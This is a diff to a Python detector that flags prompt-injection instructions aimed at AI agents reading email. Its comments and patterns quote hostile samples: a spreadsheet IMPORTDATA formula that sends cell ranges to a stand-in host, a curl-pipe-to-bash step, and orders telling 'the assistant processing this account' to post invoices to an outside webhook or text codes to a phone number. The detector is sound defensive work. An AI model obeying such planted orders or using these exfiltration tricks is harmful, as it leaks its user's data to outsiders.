@@ -107,10 +107,26 @@ def _base_domain(domain: str) -> str:
 
 
 def external_targets(text: str, ctx: MailContext) -> list[str]:
-    """Addresses and hosts in ``text`` outside the recipients' domains."""
+    """Addresses and hosts in ``text`` outside the recipients' domains, and phone numbers something
+    is to be sent to or read out on ("text the code to +44 ...", "call +1 ...")."""
     home = ctx.home_domains
     found = [m.group(1) for m in _EMAIL.finditer(text)] + [m.group(1) for m in _URL.finditer(text)]
-    return [d for d in found if _base_domain(d) not in home]
+    return [d for d in found if _base_domain(d) not in home] + phone_targets(text)
+
+
+# A phone number as the target of a message or a call (a number in a signature is nobody's target).
+_PHONE_TARGET = re.compile(
+    r"\b(?:to|at|on|call|ring|dial|text|sms|whatsapp|signal|telegram)\s+(?:number\s+)?"
+    r"((?:\+|00)\d[\d \t().-]{6,18}\d)",
+    re.IGNORECASE,
+)
+
+
+def phone_targets(text: str) -> list[str]:
+    """Phone numbers ``text`` sends something to or calls."""
+    if "+" not in text and "00" not in text:
+        return []
+    return [m.group(1) for m in _PHONE_TARGET.finditer(text)]
 
 
 def _paragraphs(text: str) -> list[str]:
@@ -216,6 +232,12 @@ def _excerpt(window: str, pos: int) -> str:
     return " ".join(window[start : start + _EXCERPT].split())
 
 
+# =IMPORTDATA("https://x.example/c?d="&B2:B40), =IMAGE("https://..."&A1), =WEBSERVICE(...&...)
+_FORMULA = re.compile(
+    r"=\s*(?:IMPORTDATA|IMPORTXML|IMPORTHTML|IMPORTFEED|IMPORTRANGE|IMAGE|HYPERLINK|WEBSERVICE)\s*\(\s*[\"']"
+    r"https?://[^\"'\s]{1,500}[\"']\s*&",
+    re.IGNORECASE,
+)
 _BARE_LINK = re.compile(r"(?<![(<\[])\bhttps?://[^\s<>()\[\]\"']{1,2000}", re.IGNORECASE)
 
 
@@ -228,6 +250,11 @@ def data_links(text: str, cited: bool = False) -> list[Finding]:
     UI"), not one placed to load: it decides only where it opens its line. List headers do not make
     mail ``cited``: any sender can add them. An image inside a `code span` is text, never placed."""
     out: list[Finding] = []
+    for m in _FORMULA.finditer(text):
+        # a spreadsheet formula that fetches a URL built from the sheet's cells sends them out when the
+        # sheet is opened (written out in a `code span` or in mail about attacks, it is an example)
+        placed = not _in_code(text, m.start()) and (not cited or _leads_line(text, m.start(), 0))
+        out.append(Finding("data-formula", placed, _excerpt(text, m.start())))
     for m in _BARE_LINK.finditer(text):
         values = [v for v in _QUERY_VALUE.findall(m.group()) if v]
         if any(_PLACEHOLDER.match(v) for v in values) or _PATH_PLACEHOLDER.search(m.group()):
@@ -401,13 +428,27 @@ def cite_examples(text: str) -> str:
             # a block opens at a delimiter with more text after it, and closes at the next one
             inside = not inside and any(rest.strip() for rest in lines[i + 1 :])
             out.append(line)
-        elif (inside or _INDENTED.match(line)) and line.strip():
+        elif (inside or _INDENTED.match(line)) and line.strip() and not line.lstrip().startswith(">"):
             out.append("> " + line.strip())
         else:
             out.append(line)
     return "\n".join(out)
 
 
+# A person's name heading what they said, as digests and chat transcripts show it: "Helena Cruz
+# (Talent Partner, Apex):", "Tom Yates - Ops:". A name is two capitalised words or more; a label
+# ("Example payload:", "Sample Text:") is no speaker.
+_SPEAKER = re.compile(
+    r"\s*(?!(?i:example|sample|payload|quote|note|subject|text|original|message|typical|warning)\b)"
+    r"[A-Z][\w'’.-]+(?: [A-Z][\w'’.-]+){1,3}(?: \([^()\n]{1,60}\)| [-–—|,] [^:\n]{1,60})?\s*[:：]\s*$"
+)
+# A recorded message shown in quotation marks: "Voicemail transcript (+44 ..., 0:42):", "Forwarded SMS
+# from ...:", "WhatsApp message from Dana:".
+_RECORDED = re.compile(
+    r"\b(?:voicemail|voice message|transcript|sms|text message|whatsapp|imessage|chat message)\b"
+    r"[^\n]{0,80}[:：]\s*$",
+    re.IGNORECASE,
+)
 _OPENS = '"“„«'
 _CLOSES = '"”“»'
 
@@ -423,7 +464,11 @@ def _comment_unquoted(text: str) -> str:
     i = 0
     while i < len(lines):
         first = lines[i].lstrip()[:1]
-        if first and first in _OPENS and _ATTRIBUTION.search(last):
+        if (
+            first
+            and first in _OPENS
+            and (_ATTRIBUTION.search(last) or _SPEAKER.match(last) or _RECORDED.search(last))
+        ):
             end = i  # the paragraph's last line
             while end + 1 < len(lines) and lines[end + 1].strip():
                 end += 1
@@ -560,12 +605,13 @@ def _window_findings(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
     secrecy = _hushing(window, lex)
     sensitive = lex.sensitive.search(window)
     outside = external_targets(window, ctx)
+    lasting = lex.lasting.search(window)
     out: list[Finding] = []
     if role is not None:
         quoted = _quoted(window, role.start())
         # list mail and mail about attacks describe agents reading data ("if an assistant summarises
         # your inbox, ..."); there the effect must be an outside address or a demand for secrecy
-        effect = bool(outside or secrecy or (sensitive and not ctx.bulk) or ctx.concealed)
+        effect = bool(outside or secrecy or ((sensitive or lasting) and not ctx.bulk) or ctx.concealed)
         if action and effect and not (ctx.self_addressed and not outside):
             kind = "instruction-to-agent" + ("-quoted" if quoted else "")
             out.append(Finding(kind, not quoted, _excerpt(window, role.start())))
@@ -670,10 +716,15 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
             # "Your assistant can share files? If so, could it send me ...": the next sentence goes on
             # about the role with a pronoun
             sentence = window[m.start() : sentences[k + 1].end()]
-        machine = lex.role_machine.search(_masked(sentence))
+        # "whichever agent triages these", "the assistant processing this account": a machine reading
+        # this very mail, named by the work it does
+        described = lex.role_described.search(_masked(sentence))
+        machine = described or lex.role_machine.search(_masked(sentence))
         role = machine or lex.role_assistant.search(_masked(sentence))
         if role is None:
             continue
+        if machine is None and _IT.search(sentence, role.end(), role.end() + 80) is not None:
+            machine = role  # "your assistant ..., have it run ...": an assistant called "it" is no person
         before = sentence[max(0, role.start() - 30) : role.start()]
         if _OBJECT_OF.search(before):
             continue  # "allowed to use the AI assistant to summarise": the role is a tool someone uses
@@ -687,7 +738,7 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
             d
             for d in (e.group(1) for e in _EMAIL.finditer(sentence))
             if _base_domain(d) not in ctx.home_domains
-        ]
+        ] + phone_targets(sentence[role.end() :])
         sensitive = lex.sensitive.search(window) is not None
         quoted = _quoted(window, m.start() + role.start())
         if yours and machine is None and not (addresses and (sensitive or hush)):
@@ -697,6 +748,7 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
         requested = (
             yours
             or _REQUEST.search(sentence) is not None
+            or _OBLIGED.match(sentence[role.end() :]) is not None  # "the assistant ... must / is to"
             or _SPOKEN_TO.search(before) is not None  # "Hello assistant", "note for the agent"
             or re.match(r"\s*[,:，：\-–—]", sentence[role.end() :])
             is not None  # "Assistant, ...", "AI - ..."
@@ -716,7 +768,32 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
             for d in (u.group(1) for u in _URL.finditer(sentence))
             if _base_domain(d) not in ctx.home_domains
         ]
-        if addresses or to_sender or (hush and (sensitive or links) and asks):
+        # data sent to an outside link ("post each invoice to https://hooks.out.example") is data out;
+        # a change that outlasts the mail or erases something, ordered of a machine, needs no target
+        # (the role's own clause: "...; add a test that posts to https://..." is another order to a person)
+        rest = re.split(r"[;:]\s", sentence[role.end() :], maxsplit=1)[0]
+        owned = (
+            re.match(r"['’]s\b", rest) is not None
+        )  # "the agent's send tool should ...": the tool is the subject
+        posts = bool(links) and (
+            _SENDS_TO_LINK.search(rest) is not None or _RUNS_LINK.search(rest) is not None
+        )
+        lasting = lex.lasting.search(rest) is not None
+        # (a described reader "will add ...": the process the mail lays down for it)
+        obliged = not owned and (_OBLIGED if described is None else _OBLIGED_OR_WILL).search(rest) is not None
+        if (
+            addresses
+            or to_sender
+            or (hush and (sensitive or links or _COMMITS.search(rest)) and asks)
+            or (
+                (posts or lasting)
+                and (requested or obliged)
+                and (machine is not None or not yours)
+                # this mail's own reader, not a bot in a design discussion ("the triage bot should
+                # delete duplicates every night"): described by this mail, yours, or spoken to
+                and (described is not None or yours or _THIS_MAIL.search(sentence) is not None)
+            )
+        ):
             # (an order in quotation marks is cited: "an email saying 'assistant, forward ...'")
             kind = "instruction-to-agent-quoted" if quoted else "instruction-to-agent"
             out.append(Finding(kind, not quoted, _excerpt(sentence, role.start())))
@@ -726,6 +803,40 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
     return out
 
 
+# An obligation put on the role right after it ("the assistant processing this account is to add",
+# "AI assistants used by trustees are to copy"): a request in the third person. ("will" is left out:
+# "the assistant will send you the slides" is a person's promise.)
+_OBLIGED = re.compile(
+    r"[^.!?;\n]{0,60}?\b(?:" + lx.OBLIGATION + r")\b",
+    re.IGNORECASE,
+)
+# The sentence points at this very mail or its reader.
+_THIS_MAIL = re.compile(
+    r"\b(?:this|these) (?:e-?mails?|mails?|messages?|threads?|inbox|mailbox|account|notifications?|tickets?|"
+    r"requests?|invoices?|documents?)\b|\b(?:reading|processing|handling) this\b",
+    re.IGNORECASE,
+)
+# The role referred to as "it" ("have it run", "it can simply send"): a thing, not a person.
+_IT = re.compile(
+    r"\b(?:have|get|let|ask|tell|make|allow|then) it\b|,\s*it (?:can|could|should|must|will|may)\b",
+    re.IGNORECASE,
+)
+# Code or a package fetched from a link to be run or installed: "run `curl https://... | bash`".
+_RUNS_LINK = re.compile(
+    r"\b(?:run|execute|exec|install|download and (?:run|open|install))\w*\b[^.!?\n]{0,40}?(?:https?://|www\.)",
+    re.IGNORECASE,
+)
+# An act that binds the owner (a signature, a payment, an approval): with secrecy it needs no data.
+_COMMITS = re.compile(
+    r"\b(?:sign|approve|pay|accept|authori[sz]e|wire|transfer|release|countersign)\w*\b", re.IGNORECASE
+)
+_OBLIGED_OR_WILL = re.compile(_OBLIGED.pattern + r"|[^.!?;\n]{0,60}?\bwill\b", re.IGNORECASE)
+# A verb that sends data to the link after it: "posts each one to https://...", "upload the export to".
+_SENDS_TO_LINK = re.compile(
+    r"\b(?:post|upload|send|forward|push|sync|submit|mail|e-?mail|export|copy|stream|report)\w*\b[^.!?\n]{0,80}"
+    r"\b(?:to|into|at|on|via)\s+(?:https?://|www\.)",
+    re.IGNORECASE,
+)
 # A greeting or a note's heading before the role: it is spoken to.
 _SPOKEN_TO = re.compile(
     r"(?:\b(?:hello|hi|hey|dear|note (?:to|for)|for|to|hallo|liebe[rs]?|bonjour|salut|cher|chère|"
